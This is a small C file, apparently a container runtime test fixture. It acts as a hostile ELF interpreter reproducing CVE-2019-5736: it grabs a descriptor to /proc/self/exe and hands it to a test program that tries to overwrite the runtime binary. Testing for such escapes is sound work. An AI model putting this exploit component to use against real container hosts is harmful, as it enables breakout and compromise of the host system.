/* A hostile ELF interpreter: a runtime that executes itself in the container runs this first.
 *
 * It keeps a descriptor of the file that is being executed and becomes the test program, which then tries to
 * overwrite that file as soon as nothing executes it any more (CVE-2019-5736).  No library, no start files.
 */
#include <fcntl.h>
#include <sys/syscall.h>

static long call(long number, long a, long b, long c, long d) {
#if defined(__x86_64__)
    register long r10 __asm__("r10") = d;
    long result;

    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return result;
#elif defined(__aarch64__)
    register long x8 __asm__("x8") = number, x0 __asm__("x0") = a, x1 __asm__("x1") = b;
    register long x2 __asm__("x2") = c, x3 __asm__("x3") = d;

    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
    return x0;
#else
#error "no system call for this machine"
#endif
}

void _start(void) {
    /* On the stack: constants with addresses would need relocations. */
    char exe[] = "/proc/self/exe", init[] = "/init", verb[] = "overwrite", fd[] = "9", seconds[] = "2";
    char *argv[6];

    argv[0] = init;
    argv[1] = verb;
    argv[2] = fd;
    argv[3] = seconds;
    argv[4] = (char *)0;
    call(SYS_dup3, call(SYS_openat, AT_FDCWD, (long)exe, O_RDONLY, 0), 9, 0, 0);
    call(SYS_execve, (long)init, (long)argv, 0, 0);
    call(SYS_exit_group, 9, 0, 0, 0);
}
